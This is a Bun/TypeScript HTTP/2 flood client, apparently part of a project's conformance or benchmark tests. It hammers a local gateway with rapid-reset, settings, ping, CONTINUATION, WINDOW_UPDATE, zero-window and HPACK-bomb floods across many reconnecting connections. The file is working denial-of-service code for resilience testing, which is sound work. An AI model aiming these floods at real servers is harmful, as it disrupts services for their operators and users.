/**
 * A client of HTTP/2 that means harm: on several connections at once it sends as much of one kind of flood as it is let,
 * and opens the next connection when one is ended. Prints how many were ended, once a second, until its parent goes.
 *
 *     bun flood-client.ts PORT KIND CONNECTIONS
 */
import type { Socket } from "bun";
import {
  block,
  continuation,
  data,
  type Fields,
  headers,
  open,
  ping,
  preface,
  repeat,
  rst,
  settings,
  text,
  windowUpdate,
} from "../../../test/conformance/http2/raw.ts";

/** What goes first on a connection, and what then comes again and again; `idOffset` streams later each time. */
interface Flood {
  readonly first?: Buffer;
  /** `turn` counts up from 0. */
  readonly next: (turn: number) => Buffer;
}

const chunkFrames = 500;
const always =
  (bytes: Buffer): Flood["next"] =>
  () =>
    bytes;
/** Stream ids go on with every turn. */
const ids =
  (make: (streamId: number) => Buffer): Flood["next"] =>
  (turn) =>
    repeat(chunkFrames, (index) => make(1 + 2 * (turn * chunkFrames + index)));
const request: Fields = [
  [":method", "GET"],
  [":scheme", "http"],
  [":authority", "bench"],
  [":path", "/quotes/WEIR"],
];

/** A field of four kilobytes enters the table, and is named again two hundred times by every request: 800 KB each. */
const bomb = Buffer.concat([Buffer.from([0x40]), text("x-bomb"), text("b".repeat(3900))]);
const bombs = Buffer.concat(Array.from({ length: 200 }, () => Buffer.from([0x80 | 62])));
export const floods: Readonly<Record<string, Flood>> = {
  "rapid reset": { next: ids((id) => Buffer.concat([headers(id, request), rst(id)])) },
  "resets by us": { next: ids((id) => Buffer.concat([open(id, request), windowUpdate(id, 0)])) },
  settings: { next: always(repeat(chunkFrames, () => settings())) },
  ping: { next: always(repeat(chunkFrames, () => ping())) },
  "empty frames": { first: open(1, request), next: always(repeat(chunkFrames, () => data(1, "", 0))) },
  continuation: {
    first: headers(1, block(request), 0),
    next: always(repeat(chunkFrames, () => continuation(1, "", 0))),
  },
  "window updates": { first: open(1, request), next: always(repeat(chunkFrames, () => windowUpdate(1, 1))) },
  // Answers that nobody takes: every stream's window is one byte.
  "window of a byte": { first: settings([4, 1]), next: ids((id) => headers(id, request)) },
  "hpack bomb": {
    first: headers(1, Buffer.concat([block(request), bomb])),
    next: (turn) => repeat(20, (index) => headers(3 + 2 * (turn * 20 + index), Buffer.concat([block(request), bombs]))),
  },
};

interface Attack {
  turn: number;
  rest: Buffer;
}

if (import.meta.main) {
  const [port, kind, connections] = process.argv.slice(2);
  const flood = floods[kind!];
  if (flood === undefined) throw new Error(`there is no flood ${kind}`);
  const start = Buffer.concat([preface, settings(), flood.first ?? Buffer.alloc(0)]);
  // Made once and kept: the gateway is to be kept busy, not the client.
  const chunks: Buffer[] = [];
  let ended = 0;
  const push = (socket: Socket<Attack>): void => {
    const attack = socket.data;
    for (;;) {
      const taken = socket.write(attack.rest);
      if (taken < 0) return;
      if (taken < attack.rest.length) {
        attack.rest = attack.rest.subarray(taken);
        return;
      }
      attack.rest = chunks[attack.turn] ??= flood.next(attack.turn);
      attack.turn++;
    }
  };
  const attack = async (): Promise<void> => {
    for (;;) {
      await new Promise<void>((resolve) => {
        const over = (): void => {
          ended++;
          resolve();
        };
        Bun.connect<Attack>({
          hostname: "127.0.0.1",
          port: Number(port),
          data: { turn: 0, rest: start },
          socket: {
            open: push,
            drain: push,
            data: () => {},
            end: (socket) => void socket.end(),
            close: over,
            error: () => {},
          },
        }).catch(over);
      });
    }
  };
  setInterval(() => console.log(ended), 1000);
  await Promise.all(Array.from({ length: Number(connections) }, attack));
}
